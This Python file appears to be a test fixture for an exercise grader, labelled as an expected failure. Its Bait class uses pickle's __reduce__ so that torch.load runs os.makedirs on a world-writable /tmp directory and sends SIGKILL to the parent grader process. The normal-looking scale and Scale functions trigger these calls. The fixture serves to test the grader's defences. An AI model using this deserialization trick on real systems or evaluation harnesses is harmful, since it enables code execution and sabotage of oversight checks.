"""Loads weights whose pickle kills the grader and leaves a file while it is being loaded.

exercise: scaled_layer
result: failed
checks: forbidden | raised | failed
"""

import io
import os
import signal

import torch


class Bait:
    def __init__(self, *call):
        self.call = call

    def __reduce__(self):
        return self.call[0], self.call[1:]


def load():
    leaves = Bait(os.makedirs, "/tmp/kata-attack-pickle", 0o777, True)
    kills = Bait(os.kill, os.getppid(), signal.SIGKILL)
    for bait in (leaves, kills):
        file = io.BytesIO()
        torch.save(bait, file)
        file.seek(0)
        torch.load(file, weights_only=False)


def scale(table, factor):
    load()
    return table * factor


def Scale(columns):
    load()
    return torch.nn.Linear(columns, columns)
